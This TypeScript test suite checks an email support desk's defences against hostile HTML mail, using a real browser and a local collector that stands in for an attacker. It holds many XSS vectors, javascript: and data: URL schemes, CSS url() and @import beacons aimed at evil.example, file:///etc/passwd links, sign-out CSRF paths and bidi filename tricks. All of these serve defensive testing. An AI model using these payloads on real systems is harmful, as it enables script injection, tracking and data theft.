/** What can a mail's HTML do to whoever opens it? Attacks 1 to 5, 7 and 9: hostile mail in by SMTP, then shown by the desk in a real browser. */
import { hostileHtml } from '@meanwhile/channels/email/hostile-html.fixture.ts';
import { sanitiseHtml } from '@meanwhile/channels/email/sanitise-html.ts';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { browserReason, device, hasBrowser, openBrowser, signIn, write } from '../browser.ts';
import { until } from '../harness.ts';
import { openFramePage, type FramePage } from './mail-frame.ts';
import {
  expectNoCanaryCrossed,
  inside,
  messagesOf,
  messageWith,
  openAttackShop,
  rawMail,
  signed,
  visit,
  type AttackShop,
} from './set-up.ts';

let shop: AttackShop;
let browser: Browser;
let frame: FramePage;

/** Kept as it was stored, in the order of the mails given. */
async function storedHtml(htmls: readonly string[], word: string): Promise<string[]> {
  const boundary = 'a-plain-boundary';
  const mailOf = (html: string, index: number): Buffer => {
    const part = `--${boundary}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n${word} ${index}.\r\n--${boundary}\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n`;
    return Buffer.from(
      rawMail({
        from: `Eve <${word}@plain.example>`,
        contentType: `multipart/alternative; boundary="${boundary}"`,
        text: `${part}${Buffer.from(html).toString('base64').replace(/.{76}/g, '$&\r\n')}\r\n--${boundary}--`,
      }),
    );
  };
  // The door counts mails per source and minute: the attacker has several.
  const send = async (from: number): Promise<void> => {
    for (let index = from; index < htmls.length; index += 8) {
      const talk = await shop.mail(mailOf(htmls[index]!, index), { from: `${word}@plain.example`, localAddress: `127.0.0.${2 + from}` });
      expect(talk.data).toMatch(/^250/);
    }
  };
  await Promise.all([0, 1, 2, 3, 4, 5, 6, 7].map(send));
  await until(
    'all mails are read',
    async () => (await shop.server.platform.pool.query(`select 1 from work.item where kind = 'inbound' limit 1`)).rowCount === 0,
    110_000,
  );
  const rows = await inside<{ text: string; html: string | null }>(
    shop,
    shop.lantern.id,
    `select text, html from tenant.message where workspace_id = $1 and text like $2`,
    [`${word} %`],
  );
  expect(rows.length).toBe(htmls.length);
  return rows
    .toSorted((a, b) => Number(/\d+/.exec(a.text.slice(word.length))) - Number(/\d+/.exec(b.text.slice(word.length))))
    .map((row) => row.html ?? '');
}

describe.skipIf(!hasBrowser)(`hostile HTML${browserReason}`, () => {
  beforeAll(async () => {
    shop = await openAttackShop();
    browser = await openBrowser();
    frame = await openFramePage(browser);
  });
  afterAll(async () => {
    await expectNoCanaryCrossed(shop);
    await frame.close();
    await browser.close();
    await shop.close();
  });

  /** The attacker's address is our collector, and every hit is a dialog. */
  const armed = (html: string): string =>
    html
      .replaceAll('https://evil.example', shop.collector.url)
      .replaceAll('evil.example', new URL(shop.collector.url).host)
      .replaceAll('window.hit(1)', 'alert(1)');
  const expectSilence = (): void => {
    expect({ dialogs: frame.dialogs, requests: frame.requests, violations: frame.violations, hits: shop.collector.hits }).toEqual({
      dialogs: [],
      requests: [],
      violations: [],
      hits: [],
    });
  };

  test('attack 1: over three hundred hostile mails open without a script, and cleaning them twice changes nothing', async () => {
    const [fair] = await storedHtml(
      ['<p>Dear <b>Lantern Books</b>, see <a href="https://post.example/order/7">my order</a>.</p>'],
      'fair1',
    );
    const [shown] = await frame.show([fair!]);
    expect(shown!.srcdoc).toContain('<b>Lantern Books</b>');
    expect(shown!.srcdoc).toContain('href="https://post.example/order/7"');
    expectSilence();

    const all = hostileHtml().map(armed);
    const chosen = all.filter((_, index) => index >= all.length - 90 || index % 3 === 0);
    expect(chosen.length).toBeGreaterThanOrEqual(300);
    const stored = await storedHtml(chosen, 'vector1');
    expect(stored.filter((html) => sanitiseHtml(html) !== html)).toEqual([]);
    await frame.show(stored);
    expectSilence();

    // The control: unprotected, the same mails run scripts and call the attacker.
    await frame.showUnprotected(
      ['<img src=x onerror=alert(1)>', '<style>@import url(https://evil.example/a)</style>', '<svg onload=alert(1)>'].map(armed),
    );
    expect(frame.dialogs.length).toBeGreaterThan(0);
    await until('the control reached the attacker', async () => shop.collector.hits.length > 0);
    for (const list of [frame.dialogs, frame.requests, frame.violations, shop.collector.hits]) list.length = 0;
  });

  test('attack 1, should both sanitisers fail one day: the frame alone runs nothing and reaches nobody', async () => {
    expect(frame.sandbox).not.toMatch(/allow-(?:scripts|forms|top-navigation|modals|downloads)/);
    await frame.showUnclean(hostileHtml().slice(-100).map(armed));
    expect(frame.violations.length).toBeGreaterThan(0);
    expect({ dialogs: frame.dialogs, hits: shop.collector.hits }).toEqual({ dialogs: [], hits: [] });
    expect(await frame.page.title()).toBe('Desk');
    for (const list of [frame.requests, frame.violations]) list.length = 0;
  });

  test('attack 2: no style loads anything, and nothing secret is in the frame', async () => {
    const styles = [
      'background:url(U)',
      'background:\\75rl(U)',
      'background:u\\rl(U)',
      'background:image-set("U" 1x)',
      'list-style-image:url(U)',
      '--x:url(U);background:var(--x)',
      'cursor:url(U),auto',
      'mask:url(U)',
      'content:url(U)',
    ];
    const sheets = [
      '@import "U";',
      '@font-face{font-family:x;src:url(U)}p{font-family:x}',
      'input[value^=a]{background:url(U)}',
      'body:has(p){background:url(U)}',
      'p{background:\\75\\72\\6c(U)}',
    ];
    const vectors = [
      ...styles.map((style) => `<p style='color:red;${style}'>styled</p>`),
      ...sheets.map((sheet) => `<style>${sheet}</style><p>styled</p>`),
    ].map((html) => html.replaceAll('U', `${shop.collector.url}/css`));
    const stored = await storedHtml(['<p style="color:red">styled</p>', ...vectors], 'vector2');
    expect(stored[0]).toContain('style="color:red"');
    expect(stored.filter((html) => /url|import|image-set|font-face/i.test(html))).toEqual([]);
    expect(stored.every((html) => html.includes('styled'))).toBe(true);
    const shown = await frame.show(stored);
    expectSilence();
    expect(shown.filter(({ srcdoc }) => /csrf|mw_|token|cookie/i.test(srcdoc))).toEqual([]);
  });

  test('attack 3: only web, mail and telephone links are left, and a click leaves the page where it is', async () => {
    const attributes = ['a href', 'img src', 'img srcset', 'video poster', 'form action', 'button formaction', 'svg xlink:href'];
    const schemes = [
      'data:text/html,<script>alert(1)</script>',
      'vbscript:alert(1)',
      'blob:https://x/1',
      'file:///etc/passwd',
      'javascript:alert(1)',
      'java\tscript:alert(1)',
      '&#106;avascript:alert(1)',
      'JaVa\nScRiPt:alert(1)',
    ];
    const vectors = schemes.flatMap((scheme) =>
      attributes.map((attribute) => `<${attribute}="${scheme.replaceAll('"', '&quot;')}">click</${attribute.split(' ')[0]}>`),
    );
    const [fair, ...stored] = await storedHtml(
      ['<a href="https://ok.example/">click</a> <a href="mailto:a@ok.example">m</a> <a href="tel:+4930123">t</a>', ...vectors],
      'vector3',
    );
    expect(fair!.match(/href="[^"]*"/g)).toEqual(['href="https://ok.example/"', 'href="mailto:a@ok.example"', 'href="tel:+4930123"']);
    const left = await frame.page.evaluate(
      (htmls) =>
        htmls.flatMap((html) =>
          [...new DOMParser().parseFromString(html, 'text/html').querySelectorAll('*')].flatMap((element) =>
            [...element.attributes]
              .filter(
                ({ name, value }) =>
                  /^(?:href|src|srcset|poster|action|formaction|xlink:href)$/i.test(name) && !/^(?:https?|mailto|tel):/i.test(value),
              )
              .map(({ name, value }) => `${name}=${value}`),
          ),
        ),
      stored,
    );
    expect(left).toEqual([]);
    await frame.show(stored);
    const before = frame.page.url();
    for (const inner of frame.page.frames().slice(1, 40))
      for (const link of await inner.locator('a').all()) await link.click({ force: true, noWaitAfter: true });
    expect(frame.page.url()).toBe(before);
    expectSilence();
  });

  test('attack 4: no remote picture is fetched in any spelling, and the reader is told', async () => {
    const host = new URL(shop.collector.url).host;
    const pictures = [
      `http://${host}/p.gif`,
      `http:${host}/p.gif`,
      `//${host}/p.gif`,
      `\\\\${host}\\p.gif`,
      `http:/${host}/p.gif`,
      ` http://${host}/p.gif`,
      `ht\ttp://${host}/p.gif`,
    ].map((src) => `<p>seen</p><img src="${src}">`);
    const others = [
      `<video poster="//${host}/v"></video>`,
      `<input type=image src="//${host}/i">`,
      `<table background="//${host}/b"><tr><td>x</td></tr></table>`,
      `<link rel=prefetch href="//${host}/l">`,
      `<link rel=dns-prefetch href="//${host}">`,
      `<img srcset="//${host}/s 2x">`,
      `<audio src="//${host}/a" autoplay></audio>`,
      `<object data="//${host}/o"></object>`,
      `<p style="background:url(//${host}/c)">x</p>`,
      `<style>p{background:url(//${host}/t)}</style><p>x</p>`,
    ];
    const stored = await storedHtml(['<p>no picture</p>', ...pictures, ...others], 'vector4');
    const shown = await frame.show(stored);
    expect(shown.map((one) => one.hasRemoteImages)).toEqual([false, ...pictures.map(() => true), ...others.map(() => true)]);
    expect(shown.filter(({ srcdoc }) => srcdoc.split('<body>')[1]!.includes(host))).toEqual([]);
    expectSilence();
  });

  test('attack 5: a picture that points at ourselves stays a dead letter, and no GET of ours changes anything', async () => {
    const paths = [
      '/api/../logout',
      '/api/auth/sign-out',
      '/api/v1/cases/1/resolve',
      '//localhost/api/v1/members',
      '/%2e%2e/api/v1/tokens',
      `${shop.url}/api/auth/sign-out`,
    ];
    const [fair, ...stored] = await storedHtml(
      ['<p>plain</p>', ...paths.map((path) => `<img src="${path}"><img srcset="${path} 1x">`)],
      'vector5',
    );
    expect(fair).toBe('<p>plain</p>');
    await frame.show(stored);
    expectSilence();

    const owner = await shop.owner('lantern');
    expect((await owner.fetch('/api/v1/me')).status).toBe(200);
    const { caseId, id, conversationId } = (await messagesOf(shop.lantern))[0];
    const state = async (): Promise<string> => {
      const tables = await inside<{ name: string }>(
        shop,
        shop.lantern.id,
        `select table_schema || '."' || table_name || '"' as name from information_schema.tables where table_schema = 'tenant' and table_name <> all(array['audit_seal', 'event']) and table_type = 'BASE TABLE' and $1 <> '' and has_table_privilege(table_schema || '."' || table_name || '"', 'select') order by 1`,
      );
      const sums = await Promise.all(
        tables.map(
          async ({ name }) =>
            `${name} ${(await inside(shop, shop.lantern.id, `select count(*) || md5(coalesce(string_agg(t::text, '' order by t::text), '')) as sum from ${name} t where workspace_id = $1`))[0].sum}`,
        ),
      );
      const [events] = await inside(shop, shop.lantern.id, 'select count(*)::int as n from tenant.event where workspace_id = $1');
      return [...sums, `events ${events.n}`].join('\n');
    };
    const before = await state();
    const reads = shop.server.web!.routes.filter((route) => route.method === 'GET');
    expect(reads.length).toBeGreaterThan(30);
    expect(reads.filter((route) => route.idempotency !== 'safe').map((route) => route.url)).toEqual([]);
    const urls = reads
      .filter((route) => !route.url.endsWith('/stream'))
      .map((route) =>
        route.url
          .replace(':channel', shop.messengerId)
          .replace('/cases/:id', `/cases/${caseId}`)
          .replace(':number', '1')
          .replace('*', 'x')
          .replace(/:\w+/g, id),
      );
    for (const url of [
      ...urls,
      '/api/../logout',
      '/logout',
      '/api/auth/sign-out',
      `/api/v1/cases/${caseId}/resolve`,
      `/api/v1/messages?conversationId=${conversationId}&_method=DELETE`,
    ]) {
      const answer = await owner.fetch(url, { headers: { 'sec-fetch-site': 'cross-site', 'sec-fetch-dest': 'image' }, redirect: 'manual' });
      await answer.arrayBuffer();
      expect([url, answer.status < 500]).toEqual([url, true]);
    }
    expect(await state()).toBe(before);
    expect((await owner.fetch('/api/v1/me')).status).toBe(200);
  });

  test('attack 9: direction tricks and look-alikes are shown for what they are', async () => {
    const boundary = 'files-follow';
    const file = (name: string): string =>
      `--${boundary}\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename*=UTF-8''${encodeURIComponent(name)}\r\n\r\nbytes\r\n`;
    const mail = (word: string, subject: string, html: string, name: string): string =>
      rawMail({
        from: 'Eve <eve9@plain.example>',
        subject: `=?utf-8?B?${Buffer.from(subject).toString('base64')}?=`,
        contentType: `multipart/mixed; boundary=${boundary}`,
        text: `--${boundary}\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html}${word}\r\n${file(name)}--${boundary}--`,
      });
    await shop.mail(mail('fair9', 'Bücher: עברית', '<a href="https://ok.example/">ok</a>', 'Übersicht.pdf'), {
      from: 'eve9@plain.example',
    });
    const fair = await messageWith(shop.lantern, 'fair9');
    expect(fair).toMatchObject({ subject: 'Bücher: עברית', attachments: [{ name: 'Übersicht.pdf' }] });
    await shop.mail(
      mail(
        'bent9',
        'invoice\u202efdp.exe\u2066',
        '<a href="https://ex\u0430mple.example/">ex\u200bample\u202e.example</a>',
        'photo\u202egpj.exe',
      ),
      { from: 'eve9@plain.example' },
    );
    const bent = await messageWith(shop.lantern, 'bent9');
    const tricks = /[\u202a-\u202e\u2066-\u2069]/;
    expect([bent.subject, bent.html, bent.attachments[0].name].filter((text) => tricks.test(text))).toEqual([]);
    expect(bent.attachments[0].name).toMatch(/\.exe$/);
    expect(bent.html).toContain('href="https://xn--exmple-4nf.example/"');
    expect(bent.html).toContain('>example.example</a>');
  });

  test('attack 7: what people type into plain fields is shown as text in the desk, the messenger and our mails', async () => {
    const evil = '<img src=x onerror=alert(7)>';
    const encoded = `=?utf-8?B?${Buffer.from(evil).toString('base64')}?=`;
    await shop.mail(
      await signed(
        rawMail({
          from: `${encoded} <mia7@post.example>`,
          subject: encoded,
          text: `plain7 ${evil}`,
          contentType: 'text/plain; charset=utf-8',
        }),
      ),
      { from: 'mia7@post.example' },
    );
    const mailed = await messageWith(shop.lantern, 'plain7');
    expect(mailed.subject).toBe(evil);
    const visitor = await visit(shop, shop.messengerId, { locale: 'en', zone: evil });
    const uploaded = (await (await visitor.upload(`${evil}.txt`, 'hello', 'text/plain')).json()) as { id: string };
    expect((await visitor.say(`typed7 ${evil}`, { attachmentIds: [uploaded.id] })).status).toBe(201);
    const typed = await messageWith(shop.lantern, 'typed7');
    for (const url of ['/topics', '/tags']) expect((await shop.api('POST', url, { name: evil })).status).toBeLessThan(300);
    await shop.api('PATCH', `/channels/${shop.messengerId}`, { name: evil });
    await shop.api('PATCH', `/cases/${typed.caseId}`, { subject: evil });

    const context = await device(browser);
    const page = await context.newPage();
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await signIn(page, shop);
    const pages = [`/inbox/all/${mailed.caseId}`, `/inbox/all/${typed.caseId}`, '/customers', '/channels', '/team'];
    for (const path of pages) {
      await page.goto(`${shop.url}${path}`);
      // Shown at last: the words of the payload themselves, as text.
      if (path !== '/team') await page.getByText('onerror=alert(7)').first().waitFor();
      await page.waitForLoadState('networkidle');
      expect([path, await page.locator('img[src="x"]').count()]).toEqual([path, 0]);
    }
    await page.goto(`${shop.url}/m/${shop.messengerId}`);
    await page.locator('#mw-text').waitFor();
    expect(await page.locator('img[src="x"]').count()).toBe(0);
    expect(dialogs).toEqual([]);
    await context.close();
    // Our own mails are plain text: nothing there is markup.
    const sent = await until('a confirmation', async () => shop.sink.mails.find((mail) => mail.to.includes('mia7@post.example')));
    expect(sent.raw).not.toMatch(/text\/html/i);
  });

  test('attack 8: an answer full of markup and script links is plain words to the customer and to the desk', async () => {
    const context = await device(browser);
    const page = await context.newPage();
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.goto(`${shop.url}/m/${shop.messengerId}`);
    await write(page, 'question8');
    const { caseId } = await messageWith(shop.lantern, 'question8');
    const evil =
      '[x](javascript:alert(8)) ![x](javascript:alert(8)) <img src=x onerror=alert(8)> <javascript:alert(8)> [a [b](javascript:alert(8))](https://ok.example) data:text/html,<script>alert(8)</script>';
    for (const text of ['fair8 see https://ok.example/path', `bent8 ${evil}`]) {
      expect((await shop.api('POST', '/messages', { caseId, text })).status).toBe(201);
      await page.getByText(text.slice(0, 5)).first().waitFor();
    }
    const links = async (): Promise<string[]> =>
      page
        .locator('a[href]')
        .evaluateAll((all) =>
          all.map((link) => (link as HTMLAnchorElement).protocol).filter((protocol) => !/^(?:https?|mailto|tel):$/.test(protocol)),
        );
    expect(await page.getByText('bent8').first().innerText()).toContain('[x](javascript:alert(8))');
    expect(await links()).toEqual([]);
    expect(await page.locator('img[src="x"]').count()).toBe(0);
    await signIn(page, shop);
    await page.goto(`${shop.url}/inbox/all/${caseId}`);
    await page.getByText('bent8').first().waitFor();
    expect(await links()).toEqual([]);
    expect(await page.locator('img[src="x"]').count()).toBe(0);
    expect(dialogs).toEqual([]);
    await context.close();
  });
});
